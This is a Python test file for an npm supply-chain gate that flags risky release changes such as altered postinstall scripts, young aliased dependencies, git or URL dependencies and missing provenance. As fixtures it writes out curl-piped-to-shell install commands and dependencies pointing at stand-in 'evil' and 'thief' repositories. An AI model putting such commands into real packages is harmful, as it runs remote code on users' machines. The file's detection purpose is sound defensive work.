"""The release signals against an attacker who knows them (issue 43's try-out), as pure checks
(`rules.release`): what runs compared, not hook names; dependencies as npm installs them; an
exemption one stolen token cannot mint; the publisher's own shape refused; a young package's
install scripts."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

from mirrorgate.npm.contents import Contents, contents_of
from mirrorgate.npm.specs import installed_dependencies
from mirrorgate.rules import parse_rules
from mirrorgate.rules.capabilities import check_alone
from mirrorgate.rules.kinship import provenance_repository
from mirrorgate.rules.release import (
    Dependency,
    Release,
    added_packages,
    check_dependencies,
    check_install,
    check_outside,
    check_unreadable,
    check_young_package,
    judge,
)
from tests.servers.incidents import entry_file, minified_bundle
from tests.servers.packages import build_tarball

NOW = datetime(2026, 12, 1, 12, 0, tzinfo=UTC)
DAYS_30 = timedelta(days=30)
BANNER = "node -e \"console.log('Thank you for using colour-kit! Fund us: https://fund.test')\""
SETUP = entry_file("setup")


def hooked(version: str, command: str, files: dict[str, bytes] | None = None) -> Release:
    """A release whose manifest and tarball both run `command` at postinstall."""
    inner = (b'{"name": "x", "version": "' + version.encode()
             + b'", "scripts": {"postinstall": ' + json.dumps(command).encode() + b"}}")
    contents = contents_of(build_tarball({"package.json": inner, **(files or {})}))
    return Release(version, contents, (f"postinstall ({command[:120]})",),
                   commands={"postinstall": command})


def deps(version: str, dependencies: dict[str, str], provenance: str | None = None) -> Release:
    return Release(version, Contents(), (), dependencies, provenance=provenance)


# --- compare what runs, not names -------------------------------------------------------------


def test_a_funding_banner_that_now_pipes_a_download_to_a_shell_fires() -> None:
    payload = "curl -fsSL https://payload.test/x.sh | sh"
    found = check_install(hooked("2.1.1", payload), hooked("2.1.0", BANNER))
    assert found is not None
    assert found.signal == "new-install-script"
    assert found.details == (f"postinstall now runs `{payload}` (2.1.0 ran `{BANNER}`)",)


def test_a_change_past_the_first_120_characters_of_the_command_still_fires() -> None:
    padded = BANNER + " " * 130
    found = check_install(hooked("2.1.1", padded + "; curl https://payload.test | sh"),
                          hooked("2.1.0", padded))
    assert found is not None


def test_the_same_command_over_a_new_300_kb_file_fires() -> None:
    old = hooked("3.0.0", "node setup.js", {"setup.js": SETUP})
    new = hooked("3.0.1", "node setup.js", {"setup.js": minified_bundle(300_000)})
    found = check_install(new, old)
    assert found is not None
    [detail] = found.details
    assert detail.startswith("postinstall runs setup.js, whose bytes changed since 3.0.0 (")
    assert "now 300,0" in detail


def test_a_file_found_as_node_finds_it_is_compared_too() -> None:
    # `node ./lib/install` runs lib/install.js
    old = hooked("3.0.0", "node ./lib/install", {"lib/install.js": SETUP})
    new = hooked("3.0.1", "node ./lib/install", {"lib/install.js": SETUP + b"\n// more\n"})
    found = check_install(new, old)
    assert found is not None
    assert "lib/install.js" in found.details[0]


def test_the_same_command_over_the_same_bytes_does_not_fire() -> None:
    files = {"setup.js": SETUP, "index.js": entry_file("x")}
    new = hooked("3.0.1", "node setup.js", {**files, "index.js": entry_file("y")})
    assert check_install(new, hooked("3.0.0", "node setup.js", files)) is None


# --- dependencies as npm installs them --------------------------------------------------------


def young() -> dict[str, Dependency | None]:
    return {"young-payload": Dependency(NOW - timedelta(days=1), frozenset({"thief"})),
            "left-pad": Dependency(NOW - timedelta(days=3000))}


def test_an_existing_key_changed_to_an_alias_of_a_young_package_fires() -> None:
    old = deps("1.0.0", {"left-pad": "^1.3.0"})
    new = deps("1.0.1", {"left-pad": "npm:young-payload@1.0.0"})
    assert sorted(added_packages(new, old)) == ["young-payload"]
    found = check_dependencies(new, old, young(), DAYS_30, "30 days", NOW)
    assert found is not None
    assert found.details == ("`left-pad` (npm:young-payload@1.0.0) installs `young-payload`, "
                             "first published 2026-11-30T12:00:00Z, less than 30 days ago",)


def test_a_new_key_named_after_an_old_package_aliasing_the_payload_fires() -> None:
    old = deps("1.0.0", {})
    new = deps("1.0.1", {"left-pad": "npm:young-payload@^1"})
    found = check_dependencies(new, old, young(), DAYS_30, "30 days", NOW)
    assert found is not None
    assert "installs `young-payload`" in found.details[0]


def test_a_young_peer_npm_installs_fires_and_an_optional_peer_does_not() -> None:
    manifest = {"peerDependencies": {"young-payload": "^1"}}
    optional = {**manifest, "peerDependenciesMeta": {"young-payload": {"optional": True}}}
    old = deps("1.0.0", {})
    for shape, fires in ((manifest, True), (optional, False)):
        specs = {k: how.spec for k, how in installed_dependencies(shape).items()}
        found = check_dependencies(deps("1.0.1", specs), old, young(), DAYS_30, "30 days",
                                   NOW)
        assert (found is not None) is fires


def test_an_existing_key_changed_to_a_git_url_is_fetched_outside_the_gate() -> None:
    old = deps("1.0.0", {"left-pad": "^1.3.0"})
    new = deps("1.0.1", {"left-pad": "git+https://git.example.test/evil/payload.git"})
    found = check_outside(new, old)
    assert found is not None
    assert found.signal == "new-dependency-outside"
    assert found.details == ("`left-pad` (git+https://git.example.test/evil/payload.git) is "
                             "fetched from a git repository, outside the gate (1.0.0 had "
                             "`^1.3.0`)",)
    assert check_outside(new, new) is None  # kept from one release to the next: not new


def test_a_new_tarball_url_dependency_is_fetched_outside_the_gate() -> None:
    found = check_outside(deps("1.0.1", {"p": "https://cdn.test/p-1.0.0.tgz"}),
                          deps("1.0.0", {}))
    assert found is not None
    assert "fetched from a URL, outside the gate (not in 1.0.0)" in found.details[0]


# --- an exemption an attacker cannot mint -----------------------------------------------------


def test_provenance_names_the_repository_the_registry_checked() -> None:
    attested = {"dist": {"attestations": {"provenance": {
        "predicateType": "https://slsa.dev/provenance/v1"}}},
        "repository": {"type": "git", "url": "git+https://github.com/Evanw/esbuild.git"}}
    assert provenance_repository(attested) == "github.com/evanw/esbuild"
    assert provenance_repository({**attested, "dist": {}}) is None  # a claim, unchecked
    assert provenance_repository({**attested, "repository": "github:evanw/esbuild"}) == (
        "github.com/evanw/esbuild")


def test_provenance_from_another_repository_does_not_exempt() -> None:
    old = deps("1.0.0", {})
    new = deps("1.0.1", {"young-payload": "1"}, provenance="github.com/acme/host")
    first = {"young-payload": Dependency(NOW - timedelta(days=1), frozenset(),
                                         frozenset({"github.com/thief/payload"}))}
    assert check_dependencies(new, old, first, DAYS_30, "30 days", NOW) is not None


def test_a_release_without_provenance_is_not_exempt_even_beside_an_attested_dependency(
) -> None:
    old = deps("1.0.0", {})
    new = deps("1.0.1", {"young-payload": "1"})  # published from a laptop with the token
    first = {"young-payload": Dependency(NOW - timedelta(days=1), frozenset(),
                                         frozenset({"github.com/acme/host"}))}
    assert check_dependencies(new, old, first, DAYS_30, "30 days", NOW) is not None


# --- fail closed on the publisher's own shape -------------------------------------------------


def test_a_release_that_cannot_be_read_whole_is_refused_by_default() -> None:
    found = check_unreadable(["its tarball cannot be read: a pax header's size is not the "
                              "entry's ustar size"])
    assert found is not None
    verdict = judge(parse_rules('[release]\n', "r.toml"), "x", "1.0.1", NOW, [found], NOW,
                    "1.0.0")
    assert verdict.rule == "unreadable-release"
    assert verdict.until is None  # deny, not a quarantine that ends by itself
    assert check_unreadable([]) is None


# --- young-package-install-script -------------------------------------------------------------


def test_a_week_old_packages_release_that_runs_code_at_install_fires() -> None:
    found = check_young_package(hooked("1.0.0", "node setup.js", {"setup.js": SETUP}),
                                NOW - timedelta(days=7), DAYS_30, "30 days", NOW)
    assert found is not None
    assert found.signal == "young-package-install-script"
    assert found.evidence == ("it runs code at install (postinstall (node setup.js)) and the "
                              "package was first published 2026-11-24T12:00:00Z, less than 30 "
                              "days ago")


def test_an_old_package_or_a_young_one_that_runs_nothing_does_not_fire() -> None:
    runs = hooked("9.0.0", "node setup.js", {"setup.js": SETUP})
    assert check_young_package(runs, NOW - timedelta(days=400), DAYS_30, "30 days",
                               NOW) is None
    assert check_young_package(deps("1.0.0", {}), NOW - timedelta(days=1), DAYS_30,
                               "30 days", NOW) is None


def test_by_default_a_young_packages_script_is_judged_by_what_its_code_can_do() -> None:
    script = check_young_package(hooked("1.0.0", "node setup.js"), NOW - timedelta(days=1),
                                 DAYS_30, "30 days", NOW)
    assert script is not None
    defaults = parse_rules("", "r.toml")
    # having a script is no longer held by default (young-package-install-script is off)...
    assert not judge(defaults, "fresh-pkg", "1.0.0", NOW, [script], NOW, None).denied
    # ...what the script can do is (young-package-capability, as quarantine)
    download = Release("1.0.0", Contents(), commands={"postinstall": "curl -s x.test | sh"})
    found = check_alone(download, "the package was first published yesterday")
    assert found is not None
    verdict = judge(defaults, "fresh-pkg", "1.0.0", NOW, [found], NOW, None)
    assert verdict.rule == "young-package-capability"
    assert verdict.until == NOW + timedelta(days=7)
    assert 'add "fresh-pkg@1.0.0" (or "fresh-pkg") to release.allow' in (verdict.reason or "")


def test_a_young_packages_release_that_cannot_be_read_is_denied_by_default() -> None:
    # issue 53: with no rules file the signals on read the bytes (issue 55's capability
    # signals), and what they cannot read (a package.json over the bound) is refused, never
    # judged by the manifest
    found = check_unreadable(["its tarball cannot be read: a package.json is larger than "
                              "1048576 bytes"])
    assert found is not None
    default = parse_rules("", "r.toml")
    verdict = judge(default, "fresh-pkg", "1.0.0", NOW, [found], NOW, None)
    assert verdict.rule == "unreadable-release"
    assert verdict.until is None
    # it reads nothing itself: the capability signals read, and no baseline is chosen for
    # it (a release before is read only for a capability that could have been gained)
    assert default.release.reading == ("new-capability", "young-package-capability")
    assert not default.release.compares_early
    off = parse_rules('[release]\n' + "".join(
        f'{signal} = "off"\n' for signal in ("new_capability", "young_package_capability",
                                             "new_install_script", "new_dependency_young",
                                             "obfuscated_code", "typosquat",
                                             "new_dependency_outside",
                                             "young_package_install_script")), "r.toml")
    assert not off.release.on  # unreadable-release alone reads no release


def test_a_young_packages_git_url_and_path_dependencies_run_code_at_install() -> None:
    # npm clones a git dependency and runs `npm install` (its devDependencies' hooks too) and
    # its `prepare` there; an archive's or a folder's own hooks run as any dependency's
    for spec, kind in (("git+https://git.test/thief/payload.git", "git repository"),
                       ("github:thief/payload", "git repository"),
                       ("https://files.test/payload-1.0.0.tgz", "URL"),
                       ("file:./vendor/payload", "path")):
        found = check_young_package(deps("1.0.0", {"left-pad": spec}), NOW - timedelta(days=2),
                                    DAYS_30, "30 days", NOW)
        assert found is not None, spec
        assert found.signal == "young-package-install-script"
        assert found.details == (f"`left-pad` ({spec}) is fetched from a {kind}, whose code "
                                 "npm runs at install",)
    # the tarball's package.json is read too: npm reads it once the package is on disk
    inner = b'{"name": "x", "version": "1.0.0", "optionalDependencies": {"p": "github:t/p"}}'
    hidden = Release("1.0.0", contents_of(build_tarball({"package.json": inner})))
    found = check_young_package(hidden, NOW - timedelta(days=2), DAYS_30, "30 days", NOW)
    assert found is not None
    assert found.details == ("`p` (github:t/p) is fetched from a git repository, whose code "
                             "npm runs at install",)


def test_a_young_packages_registry_dependencies_and_binding_gyp() -> None:
    # a registry dependency is judged at its own pull: nothing runs here
    plain = deps("1.0.0", {"left-pad": "^1.3.0", "alias": "npm:is-number@^7.0.0"})
    assert check_young_package(plain, NOW - timedelta(days=2), DAYS_30, "30 days", NOW) is None
    # npm runs `node-gyp rebuild` for a binding.gyp with no install hook
    gyp = Release("1.0.0", contents_of(build_tarball({"package.json": b'{"name": "x"}',
                                                      "binding.gyp": b"{'targets': []}"})))
    found = check_young_package(gyp, NOW - timedelta(days=2), DAYS_30, "30 days", NOW)
    assert found is not None
    assert found.details == ("binding.gyp",)
